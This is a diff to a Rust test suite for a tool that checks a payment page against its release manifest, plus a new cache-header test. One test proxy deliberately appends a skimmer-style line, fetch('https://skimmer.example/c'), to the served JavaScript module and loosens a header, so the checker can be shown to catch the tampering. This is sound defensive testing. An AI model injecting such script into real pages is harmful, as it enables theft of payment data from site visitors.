@@ -122,7 +122,7 @@ async fn tampering_proxy(upstream: String) -> String {
         }
         response = response.header("permissions-policy", "camera=*");
         let mut body = answer.bytes().await.expect("body").to_vec();
-        if path == "/pkg/tolem.js" {
+        if path.starts_with("/pkg/tolem.") && path.ends_with(".js") {
             body.extend_from_slice(b"fetch('https://skimmer.example/c');\n");
         }
         if path.starts_with("/pay/") {
@@ -159,7 +159,7 @@ async fn check_page(url: &str, manifest: &std::path::Path) -> (i32, String) {
 
 #[tokio::test]
 async fn check_page_reports_a_changed_header_and_script() {
-    let (app, _) = spawn_released().await;
+    let (app, released) = spawn_released().await;
     let manifest = app.data_dir.path().join("payment-page.json");
     let (code, said) = check_page(&app.url(PAY), &manifest).await;
     assert_eq!(code, 0, "{said}");
@@ -173,7 +173,10 @@ async fn check_page_reports_a_changed_header_and_script() {
         "{said}"
     );
     assert!(
-        said.contains("/pkg/tolem.js is not the release's"),
+        said.contains(&format!(
+            "{} is not the release's",
+            released.assets.module.path
+        )),
         "{said}"
     );
     assert!(
@@ -290,4 +293,34 @@ async fn every_response_carries_the_isolation_headers_and_a_request_id() {
         .await
         .expect("sent");
     assert_eq!(header(&feedback, "cache-control"), "no-store");
+}
+
+/// The release's files under their hashed names are kept by browsers for a
+/// year without asking again; under their plain names, revalidated.
+#[tokio::test]
+async fn hashed_files_are_kept_for_good_and_plain_ones_revalidated() {
+    let (app, manifest) = spawn_released().await;
+    for pinned in [
+        &manifest.assets.module,
+        &manifest.assets.wasm,
+        &manifest.assets.stylesheet,
+    ] {
+        let response = app.get(&pinned.path).await;
+        assert_eq!(response.status(), 200, "{}", pinned.path);
+        assert_eq!(
+            header(&response, "cache-control"),
+            "public, max-age=31536000, immutable",
+            "{}",
+            pinned.path
+        );
+    }
+    let plain = app.get("/pkg/tolem.js").await;
+    assert_eq!(plain.status(), 200);
+    assert_eq!(header(&plain, "cache-control"), "no-cache");
+    let unknown = app.get("/pkg/tolem.0123456789abcdef.js").await;
+    assert_eq!(unknown.status(), 404);
+    assert_ne!(
+        header(&unknown, "cache-control"),
+        "public, max-age=31536000, immutable"
+    );
 }
